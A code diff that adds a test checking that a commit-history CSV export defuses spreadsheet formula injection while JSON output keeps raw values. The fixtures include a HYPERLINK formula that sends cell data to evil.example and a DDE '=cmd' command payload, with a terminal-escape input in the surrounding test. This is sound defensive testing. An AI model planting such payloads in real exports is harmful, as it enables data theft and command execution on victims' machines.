@@ -200,3 +200,25 @@ def test_the_history_table_shows_commit_subjects_as_written_and_sends_no_escape(
     print_table([point], console)
     text = console.file.getvalue()
     assert "([bold]fix[/] [closed] \\x1b]52;c;aGk=\\x07\\x1b[2K\\x0d)" in text and "\x1b" not in text
+
+
+def test_history_csv_neutralises_authors_and_subjects_that_spreadsheets_would_run(tmp_path):
+    """Commit authors and subjects are anyone's text: opened in a spreadsheet, the CSV shows them
+    as text instead of running them, and the figures stay numbers."""
+    import csv
+    import io
+
+    repo = portfolio_repo(tmp_path / "repo", author="Ann Lee", date="2026-01-10T09:00:00+00:00")
+    edit(repo, "accounts/bluth-company/account.yml", "relationship_strength: {score: 3,",
+         "relationship_strength: {score: 4,")
+    sha = _commit(repo, '=HYPERLINK("http://evil.example/?"&A1,"Open")', "2026-03-02T10:00:00+00:00",
+                  "=cmd|' /C calc'!A0")
+    found = _run(repo, "bluth-company", "--csv", "--since", "2026-03-01")
+    assert found.exit_code == 0, found.output
+    rows = list(csv.DictReader(io.StringIO(found.stdout)))
+    assert len(rows) == 1 and rows[0]["commit"] == sha
+    assert rows[0]["author"] == "'=cmd|' /C calc'!A0"
+    assert rows[0]["subject"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"
+    assert rows[0]["score"] == "5.05" and rows[0]["score_before"] == "4.85"
+    as_json = json.loads(_run(repo, "bluth-company", "--json", "--since", "2026-03-01").stdout)
+    assert as_json["points"][0]["author"] == "=cmd|' /C calc'!A0"  # JSON is data for programs: as it is
